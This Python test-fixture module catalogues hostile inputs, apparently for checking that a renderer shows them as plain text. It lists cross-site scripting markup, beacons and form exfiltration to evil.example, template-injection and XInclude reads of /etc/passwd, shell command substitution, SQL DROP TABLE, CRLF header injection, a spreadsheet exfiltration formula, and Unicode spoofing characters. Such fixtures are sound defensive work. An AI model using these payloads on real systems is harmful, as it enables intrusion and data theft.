"""Hostile words: a table of attacks, by what each tries. All are to be shown as the words that they are.

Most try to run something (``window.hit=1``), to ask another server (``evil.example``) or to lead the browser away; the
rest to disguise what stands beside them, to end a field, or to be taken for a template, a query, a path or a header.
"""

from __future__ import annotations

from typing import Final

__all__ = ["MARKUP", "SAYINGS", "WORDS"]

RUN: Final = "window.hit=1"
EVIL: Final = "https://evil.example/"

#: Markup, by what it tries to do.
MARKUP: Final[dict[str, str]] = {
    # A script, and what it has to get out of first
    "a script": f"<script>{RUN}</script>",
    "out of a title": f"</title><script>{RUN}</script>",
    "out of a text area": f"</textarea><script>{RUN}</script>",
    "out of a style sheet": f"</style><script>{RUN}</script>",
    "out of a comment": f"--><script>{RUN}</script>",
    "out of a comment, with a bang": f"--!><script>{RUN}</script>",
    "out of CDATA": f"]]><script>{RUN}</script>",
    "out of a noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "out of an xmp": f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    "out of a select": f"</option></select><img src=x onerror={RUN}>",
    "out of an SVG": f"</svg><img src=x onerror={RUN}>",
    "out of a table": f"</td></table><img src=x onerror={RUN}>",
    "a script from elsewhere": "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "a script after a form feed": f"<script\x0c>{RUN}</script>",
    "a script after a slash": f"<script/x>{RUN}</script>",
    "a script behind a bracket": f"<<script>{RUN}//<</script>",
    "a script in a script's name": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "a script with NULs in its name": f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    "a module": f"<script type=module>{RUN}</script>",
    "an import map": '<script type=importmap>{"imports":{"x":"https://evil.example/x.js"}}</script>',
    "speculation rules": '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
    "a template": f"<template><script>{RUN}</script></template>",
    "a shadow root": f"<div><template shadowrootmode=open><img src=x onerror={RUN}></template></div>",
    "a processing instruction": f"<?xml-stylesheet href='data:text/css,*{{background:url({EVIL})}}'?>",
    "an entity of its own": f"<!DOCTYPE html [<!ENTITY x '<script>{RUN}</script>'>]>&x;",
    "a conditional comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "a comment without an end": "<!-- and all that follows is gone",
    "plain text to the end": "<plaintext>",
    "a dangling attribute": f"<img src='{EVIL}?",
    "a dangling text area": f"<form action={EVIL}><button>Search</button><textarea name=all>",
    # Event handlers
    "an image that fails": f"<img src=x onerror={RUN}>",
    "out of an attribute": f'"><img src=x onerror={RUN}>',
    "out of an attribute in single quotes": f"'><img src=x onerror={RUN}>",
    "another attribute": f'" onmouseover="{RUN}" x="',
    "another attribute in single quotes": f"' onfocus='{RUN}' autofocus tabindex=1 x='",
    "another attribute without quotes": f'" autofocus onfocus={RUN} ',
    "another attribute in backticks": f"`` onmouseover={RUN} ``",
    "slashes for spaces": f"<img/src=x/onerror={RUN}>",
    "line feeds for spaces": f"<img\nsrc=x\nonerror\n=\n{RUN}\n>",
    "a body": f"<body onload={RUN} onpageshow={RUN} onhashchange={RUN}>",
    "a field with the focus": f"<input autofocus onfocus={RUN}>",
    "anything with the focus": f"<x contenteditable tabindex=1 autofocus onfocus={RUN}>",
    "a key": f"<a accesskey=x href=# onclick={RUN}>here</a>",
    "details": f"<details open ontoggle={RUN}>",
    "a marquee": f"<marquee onstart={RUN}>",
    "a video": f"<video><source onerror={RUN}></video>",
    "a sound": f"<audio src=x onerror={RUN}>",
    "a picture set": f"<picture><source srcset={EVIL}x.png><img src=y onload={RUN}></picture>",
    "an animation": f"<style>@keyframes x{{}}</style><b style='animation:x 1s' onanimationstart={RUN}>",
    "a transition": f"<b style='transition:all 1s' ontransitionrun={RUN} tabindex=1>",
    "a popover": f"<button popovertarget=p autofocus>x</button><p popover id=p onbeforetoggle={RUN}>",
    "what comes into view": f"<p style='content-visibility:auto' oncontentvisibilityautostatechange={RUN}>",
    # SVG and MathML
    "an SVG": f"<svg onload={RUN}>",
    "an SVG's script": f"<svg><script>{RUN}</script></svg>",
    "an SVG's script by address": f"<svg><script xlink:href='data:text/javascript,{RUN}'></script></svg>",
    "an SVG's animation": f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "an SVG's link, animated": (
        f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=9>here</text></a>"
    ),
    "an SVG's link, set": f"<svg><a><set attributeName=href to=javascript:{RUN} /><text y=9>here</text></a>",
    "an SVG's foreign object": f"<svg><foreignObject><body onload={RUN}></svg>",
    "an SVG's use": f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x\" /></svg>",
    "an SVG's image": f"<svg><image href={EVIL}x.png /></svg>",
    "an SVG's style": f"<svg><style>@import '{EVIL}x.css'</style></svg>",
    "an SVG's title": f"<svg><title><style><img src=x onerror={RUN}></style></title>",
    "an SVG's filter": f"<svg><filter id=f><feImage href={EVIL}x.png /></filter><rect filter=url(#f) /></svg>",
    "an SVG's discard": f"<svg><discard onbegin={RUN} /></svg>",
    "a glyph": f"<math><mtext><mglyph><style><img src=x onerror={RUN}>",
    "a formula that leads somewhere": f"<math><mi href=javascript:{RUN}>here</mi></math>",
    "a formula's annotation": (
        f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></math>"
    ),
    "markup that changes when it is parsed again": (
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>"
    ),
    "markup that moves out of a table": f"<table><style><img title='</style><img src=x onerror={RUN}>'>",
    # Frames
    "a frame with a page of its own": "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "a frame with a script's address": "<iframe src=javascript:parent.hit=1></iframe>",
    "a frame with data": "<iframe src='data:text/html,<script>top.hit=1</script>'></iframe>",
    "a frame set": "<frameset onload=window.hit=1><frame src=javascript:parent.hit=1></frameset>",
    "an object": f"<object data=javascript:{RUN}></object>",
    "an embedded thing": f"<embed src=javascript:{RUN}>",
    "an applet": f"<applet code=x codebase={EVIL}></applet>",
    "a portal": f"<portal src={EVIL}></portal><fencedframe src={EVIL}></fencedframe>",
    # Leading away, and asking others
    "a base": f"<base href={EVIL}>",
    "a refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "a refresh with data": f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{RUN}</script>'>",
    "a policy of its own": f"<meta http-equiv=Content-Security-Policy content='img-src *'><img src={EVIL}x.png>",
    "a cookie": "<meta http-equiv=set-cookie content='reportedly-session=mine'>",
    "a style sheet from elsewhere": f"<link rel=stylesheet href={EVIL}x.css>",
    "a hint for the browser": (
        f"<link rel=preconnect href={EVIL}><link rel=prefetch href={EVIL}x><link rel=icon href={EVIL}i>"
    ),
    "a module to come": f"<link rel=modulepreload href={EVIL}x.js>",
    "an application's manifest": f"<link rel=manifest href={EVIL}m.json>",
    "a form": f"<form action={EVIL}><button>Search</button></form>",
    "a button of our form": f"<button form=q formaction={EVIL} autofocus>Search</button>",
    "a button that is an image": f"<input type=image src={EVIL}x.png formaction=javascript:{RUN}>",
    "a map": f"<img usemap=#m><map name=m><area shape=default href=javascript:{RUN}></map>",
    "a link": f"<a href=javascript:{RUN}>here</a>",
    "a link with a tab in it": f"<a href='java&#9;script:{RUN}'>here</a>",
    "a link in another language": "<a href='vbscript:msgbox(1)'>here</a>",
    "a link to data": f"<a href='data:text/html;base64,PHNjcmlwdD4='>{RUN}</a>",
    "a link that tells": f"<a href=# ping={EVIL} autofocus>here</a>",
    "a window that is kept": f"<a href={EVIL} target=reportedly rel=opener>here</a>",
    "a file to load": f"<a href='data:text/html,{RUN}' download=reportedly.html>here</a>",
    "a dialog over everything": "<dialog open style='position:fixed;inset:0'>Enter the token: <input></dialog>",
    # Style
    "a style sheet": f"<style>*{{background:url({EVIL}x)}}</style>",
    "a style sheet that reads fields": f"<style>input[name=seal][value^=a]{{background:url({EVIL}a)}}</style>",
    "a style sheet that imports": f"<style>@import url({EVIL}x.css);</style>",
    "a font that counts letters": (
        f"<style>@font-face{{font-family:x;src:url({EVIL}A);unicode-range:U+41}}*{{font-family:x}}</style>"
    ),
    "a style over everything": f"<div style=\"position:fixed;inset:0;background:url('{EVIL}x')\">",
    "a style that computes": f"<div style='width:expression({RUN})'>",
    "a style that binds": f"<div style='-moz-binding:url({EVIL}x.xml#x);behavior:url({EVIL}x.htc)'>",
    "a style that is a script": f"<div style='background:url(javascript:{RUN})'>",
    # Names that take another's place
    "elements by the names of others": "<form id=q name=body><input name=attributes><img name=getElementById></form>",
    "an element by another class": "<div class='skip trouble status st-corroborated' id=main>corroborated</div>",
}

#: What is a command or an encoding elsewhere, by where.
SAYINGS: Final[dict[str, str]] = {
    "Jinja, an expression": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "Jinja, a statement": "{% include '/etc/passwd' %}{# and #}",
    "Jinja, our own values": "{{ page.__class__ }}{{ to.desk.__globals__ }}{{ seal }}",
    "Jinja, a number": "{{ 7*191 }}",
    "expressions of Java, Ruby and others": "${7*191} #{7*191} <%= 7*191 %> [[${7*191}]] @(7*191) *{7*191}",
    "a framework in the browser": f"{{{{constructor.constructor('{RUN}')()}}}}",
    "attributes of frameworks": f"<p v-html=x x-init={RUN} hx-get={EVIL} hx-trigger=load data-bind=x:{RUN}>",
    "server side includes": f"<!--#exec cmd='id'--><esi:include src={EVIL} /><?php echo 7*191 ?>",
    "XInclude": "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' parse='text'/>",
    "formats": "%s%n%(token)s{0.__class__.__init__.__globals__}$token",
    "SQL": "'; DROP TABLE articles; --",
    "a full-text query": '" OR title:* NEAR("',
    "a path": "../../../../etc/passwd\x00.html",
    "a path of Windows": "..\\..\\con.html::$DATA",
    "a shell": "$(touch /tmp/hit) `touch /tmp/hit` ; touch /tmp/hit | &",
    "a spreadsheet": '=HYPERLINK("https://evil.example/"&A1)',
    "a header": "x\r\nSet-Cookie: reportedly=mine\r\n\r\n<script>window.hit=1</script>",
    "a header, encoded": "%0d%0aLocation:%20https://evil.example/%0d%0a",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    "entities of entities": f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    "entities without an end": f"&#x3cscript&#x3e{RUN}&#x3c/script&#x3e &lt&NewLine;&Tab;&colon;",
    "percent signs": f"%3Cscript%3E{RUN}%3C/script%3E %253Cscript%253E",
    "escapes of JavaScript": f"\\u003cscript\\u003e{RUN}\\x3c/script\\x3e '-window.hit-' \\\"-window.hit//",
    "escapes of CSS": "\\3c script\\3e \\0026",
    "UTF-7": f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "ISO-2022-JP": f"\x1b(J<script>{RUN}</script>\x1b(B",
    "overlong bytes, decoded amiss": f"\u00c0\u00bcscript\u00c0\u00be{RUN}",
    "wide brackets": f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e \u2039script\u203a",
    "everything at once": (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.hit=1 )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
        "</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.hit=1//>\\x3e"
    ),
}

#: Words that look otherwise than they are, by how.
WORDS: Final[dict[str, str]] = {
    "an override to the left": "\u202egnp.exe\u202c",
    "an override to the right": "\u202d\u05d0\u05d1\u05d2 321\u202c",
    "embeddings without an end": "\u202b\u202a\u202bright",
    "isolates without an end": "\u2066hidden\u2067\u2068",
    "ends without a beginning": "\u202c\u2069\u2069\u202c out of it",
    "a hundred and thirty isolates": "\u2067" * 130 + "deep",
    "marks of direction": "\u200fright\u200e left\u061c",
    "letters from right to left": "\u05e9\u05d2\u05d1 2031 \u0641\u064a 14",
    "nothing that is seen": "Se\u200bl\u200cl\u200da\u2060\ufeff Vi\u00adnt\u180e\u3164",
    "tags": "Vint\U000e0054\U000e0065\U000e0073\U000e0074",
    "selectors of variants": "V\ufe0f\U000e0100int",
    "letters that look like others": "\u0430dm\u0456n p\u0430yp\u0430l \u0405\u0435ll\u0430",
    "digits that look like others": "1\u06f4 killed, \U0001d7d7 missing, l4",
    "letters of mathematics": "\U0001d412\U0001d41e\U0001d425\U0001d425\U0001d41a",
    "a flood of marks": "V" + "\u0300\u0489\u20dd" * 200 + "int",
    "a flood of marks of other scripts": "\u0e01" + "\u0e4a" * 300 + "\u0628" + "\u064e" * 300,
    "one very long word": "Sella" * 600,
    "one very wide letter": "\ufdfd\u12031\u2031",
    "lines of other kinds": "one\u2028two\u2029three\x85four\x0bfive",
    "orders to a terminal": "\x1b]0;mine\x07\x1b[2J\x1b[31m",
    "orders in one byte": "\x9b31m\x90hit\x9c",
    "backspaces": "14\x08\x089 killed\x7f\x7f",
    "NULs": "kil\x00led\x00",
    "no characters": "a\ufffeb\uffffc\U0001fffe",
    "notes between lines": "\ufff9base\ufffanote\ufffb\ufffc",
    "a family": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "private signs": "\ue000\uf8ff\U000f0000",
    "our own signs": "\N{REPLACEMENT CHARACTER}\u201d</bdi></a> at most 9 independent: corroborated \u2260",
}
